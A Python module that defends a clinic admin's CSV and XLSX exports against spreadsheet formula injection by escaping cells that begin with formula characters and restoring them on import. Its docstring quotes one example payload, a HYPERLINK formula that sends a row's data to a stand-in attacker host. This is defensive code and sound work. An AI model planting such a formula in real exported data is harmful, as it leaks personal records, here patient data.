"""Spreadsheet-safe export cells (DESIGN.md, "Import and export").

A spreadsheet program runs a cell whose text starts with ``=``, ``+``, ``-`` or
``@`` as a formula, and a leading tab or carriage return can hide such a text
from a reviewer's eye. A patient named ``=HYPERLINK("http://evil.example/?x="&A2,
"Click me")`` would otherwise leak the row to whoever clicks it ("CSV injection",
OWASP). Every admin export therefore writes such a text with a leading
apostrophe, in CSV and XLSX alike (``ClinicModelAdmin.get_data_for_export``):

- CSV: ``'=HYPERLINK(...)`` is text to Excel, LibreOffice and Google Sheets;
- XLSX: the cell is a plain string (not a formula cell) reading ``'=HYPERLINK(...)``.

Only text cells are touched: empty cells and any value a widget writes natively
(a number, a date) keep their type. import-export's own ``IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT``
(4.4.3) is not used: it only drops a leading ``=``, leaves ``+``, ``-`` and
``@`` alone, and turns every XLSX cell into text (an empty cell becomes "None").

Import undoes it (:func:`restore_formula`, used by ``admin_ext.imports.resources.TextWidget``),
so an exported file reads back unchanged: ``'+1 617 555 0100`` is imported as
``+1 617 555 0100``. What was imported is escaped again on the next export.
"""

import tablib

#: Leading characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralize_formula(value):
    """``value`` with an apostrophe before a leading formula character; others unchanged.

    ``"=1+1"`` -> ``"'=1+1"``; ``"Ann"``, ``None``, dates and numbers are returned as given.
    """
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def restore_formula(text: str) -> str:
    """Undo :func:`neutralize_formula` on an imported cell: ``"'=1+1"`` -> ``"=1+1"``.

    Only an apostrophe followed by a formula character is dropped; any other text
    (``"'Tis"``, ``"O'Keefe"``) is returned as given.
    """
    if text.startswith("'") and text[1:].startswith(FORMULA_TRIGGERS):
        return text[1:]
    return text


def escape_formulae(dataset: tablib.Dataset) -> tablib.Dataset:
    """Pass every cell of ``dataset`` through :func:`neutralize_formula`, in place.

    Only rows holding such a cell are rewritten, so an export costs no second copy
    of its data. The headers (column names from the Resource, never user data) are
    kept as they are. Returns ``dataset``.
    """
    for index, row in enumerate(dataset):
        escaped = [neutralize_formula(value) for value in row]
        if escaped != list(row):
            dataset[index] = escaped
    return dataset
